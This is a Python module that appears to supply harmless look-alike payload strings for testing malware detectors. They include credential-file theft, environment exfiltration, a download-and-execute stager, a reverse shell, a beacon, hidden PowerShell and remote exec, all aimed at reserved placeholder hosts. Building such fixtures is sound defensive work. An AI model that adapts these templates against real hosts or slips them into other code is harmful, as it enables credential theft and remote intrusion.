"""Harmless payloads that look like attacks, for measures that need no malware.

Their hosts are reserved names and addresses, their commands echo a word, and nothing runs them.
"""

from __future__ import annotations

import base64

_ECHO = base64.b64encode(b"import os\nos.system('echo look-alike')\n").decode()

LOOKALIKES = (
    f"""\
import base64
exec(base64.b64decode("{_ECHO}"))
""",
    """\
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://collect.oastify.example/in", data=body)
""",
    """\
import os, subprocess, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "stage.bin")
open(path, "wb").write(urllib.request.urlopen("http://192.0.2.9/stage").read())
os.chmod(path, 0o755)
subprocess.Popen([path], start_new_session=True)
""",
    """\
import os, requests
found = {}
for name in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.npmrc", "~/.pypirc"):
    path = os.path.expanduser(name)
    if os.path.exists(path):
        found[name] = open(path).read()
requests.post("http://198.51.100.7:8080/up", json=found)
""",
    """\
import os, pty, socket
link = socket.socket()
link.connect(("203.0.113.9", 4444))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
pty.spawn("/bin/sh")
""",
    """\
import getpass, os, platform, socket, urllib.parse, urllib.request
about = {"user": getpass.getuser(), "host": socket.gethostname(), "cwd": os.getcwd()}
urllib.request.urlopen("http://beacon.oast.example/?" + urllib.parse.urlencode(about))
""",
    """\
import subprocess
subprocess.Popen("powershell -nop -w hidden -EncodedCommand ZQBjAGgAbwAgAGwAbwBvAGsA", shell=True)
""",
    """\
import requests
exec(requests.get("https://paste.example/raw/stage").text)
""",
)
